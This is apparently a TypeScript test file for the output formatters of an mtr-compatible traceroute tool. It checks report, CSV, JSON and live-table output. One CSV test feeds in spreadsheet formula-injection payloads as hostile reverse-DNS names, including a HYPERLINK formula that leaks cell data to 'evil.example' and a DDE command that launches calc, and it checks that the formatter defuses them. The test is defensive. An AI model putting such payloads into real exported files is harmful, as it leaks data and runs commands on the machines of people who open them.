import { execFile } from "node:child_process";
import { promisify } from "node:util";
import type { Hop } from "@lg/protocol";
import { lossInterval, TraceOptions } from "@lg/protocol";
import { describe, expect, it } from "vitest";
import { type TraceResult, Tracer } from "../tracer";
import { csvText, formatCsv } from "./csv";
import { LG_REPORT_ORDER } from "./fields";
import { formatMtrJson } from "./json";
import { formatLiveTable } from "./live";
import { formatFollowUps, formatReport } from "./report";

const run = promisify(execFile);

function hop(ttl: number, partial: Partial<Hop>): Hop {
  return {
    ttl,
    host: null,
    lossPct: 0,
    sent: 10,
    recv: 10,
    drop: 0,
    last: 0,
    avg: 0,
    best: 0,
    worst: 0,
    stdev: 0,
    jitter: 0,
    jitterAvg: 0,
    jitterMax: 0,
    responders: [],
    ...partial,
  };
}

const result: TraceResult = {
  target: "198.18.0.9",
  address: "198.18.0.9",
  startedAt: "2026-11-23T07:38:25.000Z",
  finishedAt: "2026-11-23T07:38:35.000Z",
  reachedDestination: true,
  stoppedBy: "destination",
  options: TraceOptions.parse({}),
  hops: [
    hop(1, {
      host: "198.18.0.1",
      last: 0.1,
      avg: 0.123,
      best: 0.05,
      worst: 0.2,
      stdev: 0.04,
      responders: [{ address: "198.18.0.1", count: 10 }],
    }),
    hop(2, {
      host: "198.18.2.2",
      name: "r2b.lab",
      lossPct: 30,
      recv: 7,
      drop: 3,
      last: 12.345,
      avg: 11,
      best: 10,
      worst: 13.5,
      stdev: 1.25,
      responders: [
        { address: "198.18.2.2", name: "r2b.lab", count: 4 },
        { address: "198.18.2.1", count: 3 },
      ],
      mpls: [{ label: 24005, tc: 0, bottom: true, ttl: 1 }],
    }),
    hop(3, { lossPct: 100, recv: 0, drop: 10 }),
    hop(4, {
      host: "198.18.0.9",
      last: 1,
      avg: 1,
      best: 1,
      worst: 1,
      responders: [{ address: "198.18.0.9", count: 10 }],
    }),
  ],
};

describe("formatReport", () => {
  it("prints mtr -r -w's header and rows, silent hops as ???, other responders below as mtr 0.95 does", () => {
    const text = formatReport(result, { wide: true, localHostname: "vm", useNames: false });
    expect(text.split("\n").slice(1)).toEqual([
      "HOST: vm         Loss%   Snt   Last   Avg  Best  Wrst StDev",
      "  1.|-- 198.18.0.1  0.0%    10    0.1   0.1   0.1   0.2   0.0",
      "  2.|-- 198.18.2.2 30.0%    10   12.3  11.0  10.0  13.5   1.2",
      "        198.18.2.1",
      "  3.|-- ???        100.0    10    0.0   0.0   0.0   0.0   0.0",
      "  4.|-- 198.18.0.9  0.0%    10    1.0   1.0   1.0   1.0   0.0",
      "",
    ]);
    expect(text.split("\n")[0]).toMatch(/^Start: \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d{4}$/);
  });

  it("shows names, name and address with -b, and MPLS labels with -e", () => {
    const text = formatReport(result, { wide: true, localHostname: "vm", showIps: true, mpls: true });
    expect(text).toContain("  2.|-- r2b.lab (198.18.2.2)");
    expect(text).toContain("       [MPLS: Lbl 24005 Exp 0 S 1 TTL 1]\n        198.18.2.1");
  });

  it("cuts the host column at mtr's fixed width without -w", () => {
    const lines = formatReport(result, { localHostname: "vm", useNames: false }).split("\n");
    expect(lines[1]).toBe(`HOST: vm${" ".repeat(25)} Loss%   Snt   Last   Avg  Best  Wrst StDev`);
    expect(lines[2]).toBe(`  1.|-- 198.18.0.1${" ".repeat(15)}  0.0%    10    0.1   0.1   0.1   0.2   0.0`);
  });

  it("adds jitter columns with mtr's -o letters", () => {
    const lines = formatReport(result, {
      wide: true,
      localHostname: "vm",
      fields: "LSD NBAW JMX",
      useNames: false,
    }).split("\n");
    expect(lines[1]).toBe("HOST: vm         Loss%   Snt Drop   Last  Best   Avg  Wrst  Jttr Javg Jmax");
  });
});

describe("the loss interval column (C, lg's own)", () => {
  const withCi: TraceResult = {
    ...result,
    hops: result.hops.map((h) => ({ ...h, lossCi: lossInterval(h.sent, h.recv) })),
  };

  it("lg's report order puts it after mtr's columns, which stay where mtr prints them", () => {
    const lines = formatReport(withCi, {
      wide: true,
      localHostname: "vm",
      useNames: false,
      fields: LG_REPORT_ORDER,
    })
      .split("\n")
      .slice(1);
    expect(lines.slice(0, 3)).toEqual([
      "HOST: vm         Loss%   Snt   Last   Avg  Best  Wrst StDev     Loss%CI",
      "  1.|-- 198.18.0.1  0.0%    10    0.1   0.1   0.1   0.2   0.0    0.0-27.8",
      "  2.|-- 198.18.2.2 30.0%    10   12.3  11.0  10.0  13.5   1.2   10.8-60.3",
    ]);
  });

  it("is a text cell in CSV and stays out of mtr's JSON hubs (it is in lg.hops)", () => {
    const csv = formatCsv(withCi, { useNames: false, fields: "LSC" }).split("\n");
    expect(csv[0]).toBe("Mtr_Version,Start_Time,Status,Host,Hop,Ip,Loss%,Snt,Loss%CI,");
    expect(csv[2]).toBe("LG.0.1.0,1795419505,OK,198.18.0.9,2,198.18.2.2,30.00,10,10.8-60.3");
    const json = formatMtrJson(withCi, { useNames: false, fields: LG_REPORT_ORDER }) as {
      report: { hubs: Record<string, unknown>[] };
      lg: { hops: Hop[] };
    };
    expect(Object.keys(json.report.hubs[1] ?? {})).not.toContain("Loss%CI");
    expect(json.lg.hops[1]?.lossCi).toEqual([10.8, 60.3]);
  });

  it("shows '-' for a hop read without an interval (an older stored trace)", () => {
    const line = formatReport(result, {
      wide: true,
      localHostname: "vm",
      useNames: false,
      fields: "LC",
    }).split("\n")[2];
    expect(line).toBe("  1.|-- 198.18.0.1  0.0%           -");
  });
});

describe("formatFollowUps", () => {
  const purpose =
    "the ICMP trace ends in silence after hop 2 (198.18.0.2): is 198.18.0.9 there, ignoring ICMP echo?";
  it("lists each follow-up under one shared purpose, IPv6 targets bracketed, and what --until-sure did", () => {
    const text = formatFollowUps(
      [
        {
          kind: "tcp-syn",
          target: "198.18.0.9",
          port: 443,
          answered: true,
          rtt: 0.2,
          purpose,
          result: "198.18.0.9 answered 3 of 3 (SYN-ACK or RST), best 0.2 ms",
        },
        {
          kind: "udp",
          target: "198.18.0.9",
          port: 33434,
          answered: false,
          purpose,
          result: "no answer to 3 probes within 1 s",
        },
      ],
      { extraCycles: 5, extraProbes: 15, maxExtraCycles: 30, decided: true },
    );
    expect(text.split("\n")).toEqual([
      `Follow-up probes: ${purpose}`,
      "  TCP SYN     198.18.0.9:443    198.18.0.9 answered 3 of 3 (SYN-ACK or RST), best 0.2 ms",
      "  UDP         198.18.0.9:33434  no answer to 3 probes within 1 s",
      "Until sure: decided after 5 more probes per hop (15 probes; at most 30 more per hop).",
      "",
    ]);
    expect(
      formatFollowUps([{ kind: "tcp-syn", target: "2001:2::9", port: 80, answered: false, purpose }]),
    ).toContain("[2001:2::9]:80");
  });
  it("is empty for a trace without follow-ups, and says when the budget ran out undecided", () => {
    expect(formatFollowUps([])).toBe("");
    expect(
      formatFollowUps([], { extraCycles: 30, extraProbes: 90, maxExtraCycles: 30, decided: false }),
    ).toBe(
      "Until sure: still undecided after 30 more probes per hop (90 probes; at most 30 more per hop): the finding stays inconclusive.\n",
    );
  });
});

describe("formatCsv", () => {
  it("writes mtr --csv's header and one line per hop", () => {
    const lines = formatCsv(result, { useNames: false }).split("\n");
    expect(lines[0]).toBe("Mtr_Version,Start_Time,Status,Host,Hop,Ip,Loss%,Snt, ,Last,Avg,Best,Wrst,StDev,");
    expect(lines[2]).toBe(
      "LG.0.1.0,1795419505,OK,198.18.0.9,2,198.18.2.2,30.00,10,3,12.35,11.00,10.00,13.50,1.25",
    );
    expect(lines[3]).toContain(",3,???,100.00,10,10,");
  });

  it("a reverse-DNS name that starts like a formula is written as quoted text with a leading '", () => {
    const names = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1,2)",
      "\t=1+1",
      "\r=1+1",
    ];
    const hostile: TraceResult = {
      ...result,
      target: "=target",
      hops: names.map((name, i) => hop(i + 1, { host: `198.18.0.${i + 1}`, name })),
    };
    const rows = formatCsv(hostile).trimEnd().split("\n").slice(1);
    rows.forEach((row, i) => {
      const name = names[i] as string;
      // Target column, then the name column: both text, both defused.
      expect(row).toContain(`,"'=target",${i + 1},"'${name.replaceAll('"', '""')}",`);
    });
  });

  it("data stays data: numbers (a negative one too), addresses starting with a digit, and ordinary names", () => {
    expect(csvText("2001:db8::1")).toBe("2001:db8::1");
    expect(csvText("198.18.0.1")).toBe("198.18.0.1");
    expect(csvText("::1")).toBe("::1");
    expect(csvText("core1.fra.example.net")).toBe("core1.fra.example.net");
    expect(csvText("a,b")).toBe('"a,b"');
    expect(csvText('say "hi"')).toBe('"say ""hi"""');
    // Numeric columns are not text: a negative value is written as the number it is.
    const line = formatCsv(
      { ...result, hops: [hop(1, { host: "2001:db8::1", avg: -1.5 })] },
      { useNames: false },
    ).split("\n")[1] as string;
    expect(line.split(",")).toContain("-1.50");
    expect(line).toContain(",1,2001:db8::1,");
  });
});

describe("formatMtrJson", () => {
  it("keeps mtr's fields under report and everything else under lg", () => {
    const json = formatMtrJson(result, { localHostname: "vm", useNames: false }) as {
      report: { hubs: Record<string, unknown>[] };
      lg: { hops: Hop[] };
    };
    expect(json.report.hubs[1]).toEqual({
      count: 2,
      host: "198.18.2.2",
      "Loss%": 30,
      Snt: 10,
      Last: 12.345,
      Avg: 11,
      Best: 10,
      Wrst: 13.5,
      StDev: 1.25,
    });
    expect(json.lg.hops[1]?.responders).toHaveLength(2);
  });
});

describe("formatLiveTable", () => {
  it("fits the terminal and lists every hop", () => {
    const lines = formatLiveTable(result.hops, {
      target: "lab-target",
      address: "198.18.0.9",
      localHostname: "vm",
      columns: 80,
      useNames: false,
    });
    expect(lines.every((l) => l.length <= 80)).toBe(true);
    expect(lines.filter((l) => /^ {1,2}\d+\. /.test(l))).toHaveLength(4);
  });
});

/** The shape of a JSON value: object keys and value types, recursively. */
function shape(v: unknown): unknown {
  if (Array.isArray(v)) return v.length ? [shape(v[0])] : [];
  if (v && typeof v === "object") return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, shape(x)]));
  return typeof v;
}

describe("against real mtr on loopback", () => {
  it("our --json report has mtr --json's field names, order and types", async () => {
    const mtr = await run("mtr", ["-j", "-n", "-c", "2", "-i", "0.1", "-G", "0.1", "127.0.0.1"]);
    const theirs = JSON.parse(mtr.stdout) as { report: object };
    const tracer = new Tracer({ resolveNames: false });
    const ours = formatMtrJson(
      await tracer.run({ target: "127.0.0.1", options: { count: 2, interval: 0.1 } }),
      {
        useNames: false,
      },
    ) as { report: object };
    await tracer.close();
    expect(JSON.stringify(shape(ours.report))).toBe(JSON.stringify(shape(theirs.report)));
  });

  it("our report and CSV headers are mtr's", async () => {
    const [report, csv] = await Promise.all([
      run("mtr", ["-r", "-w", "-n", "-c", "1", "-i", "0.1", "-G", "0.1", "127.0.0.1"]),
      run("mtr", ["-C", "-n", "-c", "1", "-i", "0.1", "-G", "0.1", "127.0.0.1"]),
    ]);
    const tracer = new Tracer({ resolveNames: false });
    const ours = await tracer.run({ target: "127.0.0.1", options: { count: 1, interval: 0.1 } });
    await tracer.close();
    const mtrLines = report.stdout.split("\n");
    const ourLines = formatReport(ours, { wide: true, useNames: false }).split("\n");
    expect(ourLines[1]).toBe(mtrLines[1]);
    expect(ourLines[2]?.slice(0, 17)).toBe(mtrLines[2]?.slice(0, 17));
    expect(ourLines[2]?.length).toBe(mtrLines[2]?.length);
    expect(formatCsv(ours, { useNames: false }).split("\n")[0]).toBe(csv.stdout.split("\n")[0]);
  });
});
